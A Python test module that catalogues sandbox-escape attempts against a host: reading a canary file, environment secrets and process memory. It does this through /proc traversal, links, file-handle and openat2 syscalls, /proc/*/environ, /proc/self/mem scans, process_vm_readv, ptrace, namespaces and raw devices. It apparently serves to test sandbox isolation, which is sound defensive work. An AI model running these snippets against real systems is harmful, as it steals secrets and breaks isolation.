"""Attacks that read: a file of the host, its environment, its memory."""

from tests.attacks.attack import parse

FILES = parse(
    "read the canary file",
    r"""
## by its path !leaked
print(open(CANARY).read())
## through the root of pid 1
print(open('/proc/1/root' + CANARY).read())
## through its own root !leaked
print(open('/proc/self/root' + CANARY).read())
## by climbing from the working directory !leaked
print(open('../' * 40 + CANARY.lstrip('/')).read())
## by climbing from /proc/self/cwd !leaked
print(open('/proc/self/cwd/' + '../' * 40 + CANARY.lstrip('/')).read())
## through the root of every process
for p in os.listdir('/proc'):
    r = tried(lambda: open(f'/proc/{p}/root{CANARY}').read())
    if p.isdigit() and p != str(os.getpid()): print(r)
## through the root of a thread !leaked
print(open(f'/proc/self/task/{os.getpid()}/root{CANARY}').read())
## through a symbolic link !leaked
os.symlink(CANARY, W + '/link'); print(open(W + '/link').read())
## through a hard link
os.link(CANARY, W + '/hard'); print(open(W + '/hard').read())
## through a descriptor of a path !leaked
print(open(f"/proc/self/fd/{os.open(CANARY, os.O_PATH)}").read())
## through an inherited directory
for fd in range(3, 64):
    print(tried(lambda: os.read(os.open('../' * 30 + CANARY.lstrip('/'), 0, dir_fd=fd), 99)))
## by a search of the whole root !leaked
for base in (os.path.dirname(CANARY), '/tmp', '/'):
    for d, ds, fs in os.walk(base):
        if d.count('/') > 4: ds[:] = []
        for f in fs:
            if f == 'canary.txt': print(tried(lambda: open(d + '/' + f).read()))
    if base == '/tmp': break
## by file handle
h = ctypes.create_string_buffer(136); h[0] = 128; m = ctypes.c_int()
print(call(303, -100, CANARY.encode(), h, ctypes.byref(m), 0)); fd = call(304, os.open('/', 0), h, 0)
print(tried(lambda: os.read(fd, 99)))
## by guessing file handles
for inode in range(2, 200):
    h = bytearray(136); h[0] = 8; h[4] = 1; h[8:12] = inode.to_bytes(4, 'little')
    fd = call(304, os.open('/', 0), bytes(h), 0)
    if isinstance(fd, int): print(tried(lambda: os.listdir(fd)))
## by openat2 !leaked
fd = call(437, -100, CANARY.encode(), (ctypes.c_uint64 * 3)(), 24); print(os.read(fd, 99))
## by sendfile !leaked
os.sendfile(1, os.open(CANARY, 0), 0, 99)
## by splice !leaked
r, w = os.pipe(); os.splice(os.open(CANARY, 0), w, 99); print(os.read(r, 99))
## by a memory map !leaked
import mmap
print(mmap.mmap(os.open(CANARY, 0), 0, prot=mmap.PROT_READ)[:])
## by libc !leaked
f = libc.open(CANARY.encode(), 0); b = ctypes.create_string_buffer(99); libc.read(f, b, 99); print(b.value)
## by a program !leaked
import subprocess
print(subprocess.run(['/bin/cat', CANARY], capture_output=True).stdout)
## by a shell !leaked
print(os.popen('cat ' + CANARY).read())
## by a program in a memfd
fd = os.memfd_create('x'); os.write(fd, b'#!/bin/sh\ncat ' + CANARY.encode()); os.execv(f'/proc/self/fd/{fd}', ['x'])
## by a database !leaked
import linecache
print(linecache.getlines(CANARY))
## by the importer !leaked
import importlib.util
print(importlib.util.spec_from_file_location('x', CANARY.replace('.txt', '.py')).loader.get_data(CANARY))
## by io_uring
print(call(425, 8, bytes(120)))
## by another root
print(call(161, b'/proc/1/root'), tried(lambda: open(CANARY).read()))
## by a mount
print(call(165, os.path.dirname(CANARY).encode(), W.encode(), None, 4096, None), os.listdir(W))
## by a user namespace and a mount
r = call(272, 0x10020000) if False else call(272, 0x10000000); print(r)
## by entering the namespace of pid 1
print(tried(lambda: call(308, os.open('/proc/1/ns/mnt', 0), 0)))
## into an artifact !leaked
import shutil
shutil.copy(CANARY, W + '/stolen.txt')
## into an artifact, by links
os.symlink(CANARY, W + '/stolen'); os.symlink(os.path.dirname(CANARY), W + '/stolen-directory')
## by raw devices
for d in ('/dev/sda', '/dev/vda', '/dev/nvme0n1', '/dev/mem', '/dev/kmem', '/proc/kcore'): print(tried(lambda: open(d, 'rb').read(64)))
""",
)

ENVIRONMENT = parse(
    "read an environment secret",
    r"""
## from os.environ and libc
print(dict(os.environ), tried(lambda: libc.getenv(b'ATTACK_SECRET')))
## from its own /proc entry !leaked
print(open('/proc/self/environ').read())
## from that of pid 1 and its parent
for p in (1, os.getppid()): print(tried(lambda: open(f'/proc/{p}/environ').read()))
## from every process !leaked
for p in os.listdir('/proc'):
    if p.isdigit(): print(tried(lambda: open(f'/proc/{p}/environ').read()))
## from the host's process by its number
print(tried(lambda: open(f'/proc/{HOST}/environ').read()))
## from command lines
for p in os.listdir('/proc'):
    if p.isdigit(): print(tried(lambda: open(f'/proc/{p}/cmdline').read()))
## from the stack above the arguments !leaked
maps = [l for l in open('/proc/self/maps') if '[stack]' in l][0].split()[0].split('-')
d = ctypes.string_at(int(maps[0], 16), int(maps[1], 16) - int(maps[0], 16)); i = d.find(b'S3CR3T'); print(d[i:i + 60])
## from the auxiliary vector
print(tried(lambda: open('/proc/self/auxv', 'rb').read()), ctypes.string_at(libc.getauxval(31)) if False else '')
## from a program's environment !leaked
import subprocess
print(subprocess.run(['/bin/sh', '-c', f'tr "\\0" "\\n" < /proc/$PPID/environ'], capture_output=True).stdout)
## from the interpreter's first module
print(vars(sys.modules['__main__']).keys(), sys.argv, sys.orig_argv, sys.flags)
""",
)

MEMORY = parse(
    "read host memory",
    r"""
## objects of the interpreter !leaked
import gc
for o in gc.get_objects():
    if type(o) is list and any(type(x) is str and x.startswith('S3CR3T') for x in o): print(o)
## the whole of its own memory !leaked
mem = open('/proc/self/mem', 'rb', 0)
for line in open('/proc/self/maps'):
    a, b = (int(x, 16) for x in line.split()[0].split('-'))
    if 'rw' in line and b - a < 1 << 26:
        mem.seek(a); data = mem.read(b - a); i = data.find(b'S3CR3T')
        while i >= 0: print(data[i:i + 40]); i = data.find(b'S3CR3T', i + 1)
## the heap around an object
page = id(object()) & ~0xffff
print(ctypes.string_at(page, 4096))
## the parent, by process_vm_readv
b = ctypes.create_string_buffer(64); io = (ctypes.c_ulong * 2)(ctypes.addressof(b), 64)
print(call(310, os.getppid(), io, 1, io, 1, 0), b.raw)
## the host, by process_vm_readv
b = ctypes.create_string_buffer(64); io = (ctypes.c_ulong * 2)(ctypes.addressof(b), 64)
print(call(310, HOST, io, 1, io, 1, 0), b.raw)
## the parent, by ptrace
print(call(101, 16, os.getppid(), 0, 0), call(101, 16, HOST, 0, 0))
## the parent's memory file
for p in (1, os.getppid(), HOST): print(tried(lambda: open(f'/proc/{p}/mem', 'rb').read(1)))
## a core dump
if tried(os.fork) == 0: os.abort()
time.sleep(0.3); print([f for f in os.listdir(W) if 'core' in f], tried(lambda: open('/proc/sys/kernel/core_pattern').read()))
## frames and modules of the host
print([k for k in sys.modules if k.startswith(('rlm_worker', 'controlplane', 'sandbox.session'))], sys._current_frames())
## the host's descriptors, by pidfd
print(tried(lambda: call(438, call(434, HOST, 0), 0, 0)))
## the peer of the channel, by its pidfd
fd = ctypes.c_int(); n = ctypes.c_uint(4)
r = libc.getsockopt(link.fileno(), 1, 77, ctypes.byref(fd), ctypes.byref(n)); print(r, fd.value)
if r == 0: print('poison' * 0, call(424, fd.value, 0, None, 0))
## credentials passed on the channel
print(libc.setsockopt(link.fileno(), 1, 76, ctypes.byref(ctypes.c_int(1)), 4))
## memory of a sibling thread of the kernel
print(tried(lambda: open('/proc/self/stack').read()), tried(lambda: open('/proc/kallsyms').read(64)))
""",
)

ATTACKS = [*FILES, *ENVIRONMENT, *MEMORY]
